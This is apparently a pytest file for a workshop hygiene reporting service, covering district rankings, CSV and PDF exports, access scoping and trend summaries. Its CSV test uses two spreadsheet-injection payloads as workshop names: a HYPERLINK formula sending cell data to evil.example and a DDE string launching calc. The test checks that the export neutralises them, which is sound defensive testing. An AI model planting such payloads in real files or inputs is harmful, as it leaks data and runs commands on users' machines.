"""The district report and the workshop summary, from seeded data on SQLite and PostgreSQL.

``test_cloud_reports``'s known day (2025-11-26): in district d1, ws-a has 6 uses, 4 misuse occurrences,
3 washes (every stay at its sink counted), 4 alarms, station uptime 52/60 h; the day before it had one use
and one misuse (cross_zone_wash), one alarm, and rack-red-1 online for the hour it was known. ws-b has one
use, no misuse and its rack online all day; the inspector grades it 金榜 gold. ws-d (added here) has nothing
and a name that a spreadsheet would run as a formula. The inspector asks ws-a for two rectifications
(``test_report_pdf._rectify``): one overdue, one answered: two items open. d2 (ws-c) is insp2's.
"""

from __future__ import annotations

import csv
import io

import pdfplumber
import pytest
import test_cloud_reports
from cloud_fixtures import *  # noqa: F401,F403 - fixtures
from test_cloud_reports import DAY
from test_report_pdf import _rectify

from cloud_ingest.access import admin
from cloud_ingest.reports.district import HEADER

day = test_cloud_reports.day  # the known day's fixture
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DISTRICT = f"/api/v1/districts/d1/report?from={DAY}&to={DAY}"
SUMMARY = f"/api/v1/workshops/ws-a/summary?from={DAY}&to={DAY}"


@pytest.fixture
def district(day):  # type: ignore[no-untyped-def]
    cloud, tokens = day
    cloud.as_admin(admin.create_workshop, {"id": "ws-d", "name": EVIL, "district": "d1"}, cloud.now)
    r = cloud.post(tokens["insp1"], "/api/v1/workshops/ws-b/grade",
                   {"grade": "gold", "effective": DAY, "reason": "色标管理规范"})
    assert r.status_code in (200, 201), r.text
    _rectify(cloud, tokens)
    cloud.as_admin(admin.create_user, {"username": "admin-d2", "password": "pw-admin-d2-123456", "role": "admin",
                                       "districts": ["d2"]}, cloud.now)  # a district admin of d2 only
    tokens["admin-d2"] = cloud.login("admin-d2", "pw-admin-d2-123456")
    return cloud, tokens


def test_the_district_report_ranks_its_workshops_with_their_figures(district) -> None:  # type: ignore[no-untyped-def]
    cloud, tokens = district
    r = cloud.get(tokens["insp1"], DISTRICT)
    assert r.status_code == 200, r.text
    doc = r.json()
    assert doc["district"] == {"id": "d1", "name": "昆都仑区"}
    assert (doc["period"]["from"], doc["period"]["to"]) == (DAY, DAY)
    lines = {w["workshop"]["id"]: w for w in doc["workshops"]}
    assert [w["workshop"]["id"] for w in doc["workshops"]] == ["ws-b", "ws-a", "ws-d"]  # gold first; no uses last
    assert [w["rank"] for w in doc["workshops"]] == [1, 2, 3]
    assert lines["ws-a"]["figures"] == pytest.approx({
        "misuse_per_100": 66.67, "wash": 1.0, "disinfection": None, "coverage": 52 / 60, "alarms": 4.0,
        "rectified": 0.0})
    assert lines["ws-a"]["ledger"] == {"open": 2, "overdue": 1}
    assert (lines["ws-b"]["grade"], lines["ws-b"]["figures"]["misuse_per_100"],
            lines["ws-b"]["figures"]["coverage"], lines["ws-b"]["ledger"]) == ("gold", 0.0, 1.0,
                                                                               {"open": 0, "overdue": 0})
    assert lines["ws-d"]["figures"] == {"misuse_per_100": None, "wash": None, "disinfection": None,
                                        "coverage": None, "alarms": 0.0, "rectified": None}
    assert "ws-c" not in lines  # d2's


@pytest.mark.parametrize("who, where, expected", [
    ("admin", "d1", 200), ("insp1", "d1", 200), ("insp2", "d1", 404), ("insp1", "d2", 404), ("admin", "zz", 404),
    ("admin-d2", "d2", 200), ("admin-d2", "d1", 404), ("owner-a", "d1", 403), ("owner-c", "d2", 403), ("gw-ws-a", "d1", 403), (None, "d1", 401),
])
@pytest.mark.parametrize("fmt", ["json", "csv", "pdf"])
def test_the_district_reports_tenancy(district, who: str | None, where: str, expected: int, fmt: str) -> None:  # type: ignore[no-untyped-def]
    cloud, tokens = district
    r = cloud.get(tokens[who] if who else None, f"/api/v1/districts/{where}/report?from={DAY}&to={DAY}&format={fmt}")
    assert r.status_code == expected, r.text
    if expected != 200:
        assert "ws-a" not in r.text and "昆都仑区" not in r.text


def test_the_district_csv_neutralises_formulas(district) -> None:  # type: ignore[no-untyped-def]
    cloud, tokens = district
    r = cloud.get(tokens["insp1"], DISTRICT + "&format=csv")
    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=utf-8", r.text
    assert r.headers["content-disposition"] == f'attachment; filename="sebiao-district-d1-{DAY}-{DAY}.csv"'
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == HEADER
    by_id = {row[1]: row for row in rows[1:]}
    assert by_id["ws-d"][2] == "'" + EVIL  # a leading ' : the spreadsheet shows it as text, never runs it
    assert by_id["ws-a"][:4] == ["2", "ws-a", "作坊 ws-a", "未分级 / not graded"]
    assert by_id["ws-a"][4:] == ["66.67", "100.00%", "—", "86.67%", "4", "0.00%", "2", "1"]
    assert by_id["ws-b"][3] == "金榜 gold"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # the workshop's own report neutralises the same way
    cloud.as_admin(admin.create_workshop, {"id": "ws-e", "name": "+cmd|' /C calc'!A0", "district": "d1"}, cloud.now)
    own = cloud.get(tokens["admin"], f"/api/v1/workshops/ws-e/report?from={DAY}&to={DAY}&format=csv")
    cells = [row for row in csv.reader(io.StringIO(own.content.decode("utf-8-sig")))]
    assert cells[1] == ["作坊 / workshop", "ws-e", "'+cmd|' /C calc'!A0", ""]


def test_the_district_pdf(district) -> None:  # type: ignore[no-untyped-def]
    cloud, tokens = district
    r = cloud.get(tokens["insp1"], DISTRICT + "&format=pdf")
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf", r.text
    with pdfplumber.open(io.BytesIO(r.content)) as pdf:
        sizes = [c["size"] for page in pdf.pages for c in page.chars]
        assert min(sizes) >= 10 - 0.01
        m = len(pdf.pages)
        for n, page in enumerate(pdf.pages, 1):
            assert page.extract_text().splitlines()[-1] == f"第 {n} 页 / 共 {m} 页 (page {n} of {m})"
        cells = [row for page in pdf.pages for t in page.extract_tables() for row in t]
        text = "\n".join(page.extract_text() for page in pdf.pages)
    ranked = [(row[0], row[1]) for row in cells if row[0] in ("1", "2", "3")]
    assert ranked == [("1", "ws-b"), ("2", "ws-a"), ("3", "ws-d")]
    assert "区色标化管理报告" in text and "检查员签字 / inspector's signature：" in text


def test_the_summary_compares_with_the_day_before_and_the_district(district) -> None:  # type: ignore[no-untyped-def]
    cloud, tokens = district
    r = cloud.get(tokens["insp1"], SUMMARY)
    assert r.status_code == 200, r.text
    doc = r.json()
    assert (doc["previous"]["from"], doc["previous"]["to"]) == ("2025-11-25", "2025-11-25")
    f = {x["figure"]: x for x in doc["figures"]}
    assert (f["misuse_per_100"]["value"], f["misuse_per_100"]["previous"]) == (66.67, 100.0)
    assert (f["misuse_per_100"]["trend"], f["misuse_per_100"]["better"]) == ("down", True)
    assert f["misuse_per_100"]["trend_text"] == "↓ 下降，变好 / down, better"
    assert (f["alarms"]["value"], f["alarms"]["previous"], f["alarms"]["trend"], f["alarms"]["better"]) == (
        4.0, 1.0, "up", False)
    assert f["alarms"]["trend_text"] == "↑ 上升，变差 / up, worse"
    assert (f["coverage"]["previous"], f["coverage"]["trend"], f["coverage"]["better"]) == (1.0, "down", False)
    assert (f["disinfection"]["trend"], f["disinfection"]["trend_text"]) == (None, "— 无可比 / no comparison")
    # the district's misuse: ws-a 66.67 and ws-b 0.00 (ws-d has no uses, so no rate)
    numbers = ("n", "q1", "median", "q3")
    misuse = f["misuse_per_100"]["district"]
    assert {k: misuse[k] for k in numbers} == pytest.approx({"n": 2, "q1": 16.6675, "median": 33.335,
                                                             "q3": 50.0025})
    assert (misuse["q1_text"], misuse["median_text"], misuse["q3_text"]) == ("16.67", "33.34", "50.00")
    alarms = f["alarms"]["district"]
    assert {k: alarms[k] for k in numbers} == pytest.approx({"n": 3, "q1": 0.0, "median": 0.0, "q3": 2.0})
    # the owner sees the trend, but not quartiles that would tell another workshop's own figures
    own = cloud.get(tokens["owner-a"], SUMMARY).json()
    assert [x["district"] for x in own["figures"]] == [None] * 6
    assert [x["trend"] for x in own["figures"]] == [x["trend"] for x in doc["figures"]]


@pytest.mark.parametrize("who, expected", [("insp2", 404), ("owner-c", 404), ("gw-ws-a", 403), (None, 401)])
def test_the_summary_stays_in_scope(district, who: str | None, expected: int) -> None:  # type: ignore[no-untyped-def]
    cloud, tokens = district
    assert cloud.get(tokens[who] if who else None, SUMMARY).status_code == expected

